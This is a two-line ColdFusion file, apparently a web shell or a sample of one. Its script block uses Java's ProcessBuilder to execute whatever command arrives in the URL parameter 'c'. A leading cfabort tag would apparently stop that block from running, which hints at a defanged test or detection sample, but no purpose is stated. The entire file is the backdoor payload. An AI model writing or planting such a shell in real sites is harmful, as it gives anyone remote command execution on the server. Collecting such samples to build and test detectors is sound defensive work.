<cfabort>
<cfscript> runtime = createObject("java","java.lang.ProcessBuilder").init([url.c]).start(); </cfscript>
